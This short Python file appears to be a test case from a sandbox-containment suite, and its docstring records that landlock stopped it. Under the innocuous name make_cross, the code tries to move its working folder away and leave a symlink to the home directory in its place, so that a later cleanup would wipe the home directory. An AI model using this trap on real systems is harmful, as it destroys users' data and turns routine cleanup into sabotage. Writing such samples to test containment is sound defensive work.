"""Moves its own folder elsewhere and puts a link in its place, for whoever comes to remove it.

Aims at: whoever removes what is left
Acts at: call
Outcome: status failed, code not-array
Stopped by: landlock
"""

import os

from loot import HOME, won


def make_cross(size=7):
    here = os.getcwd()
    for act in (lambda: os.rename(here, f"{here}-moved"), lambda: os.rmdir(here), lambda: os.symlink(HOME, here)):
        try:
            act()
            won("its folder")
        except OSError:
            continue
    return 0
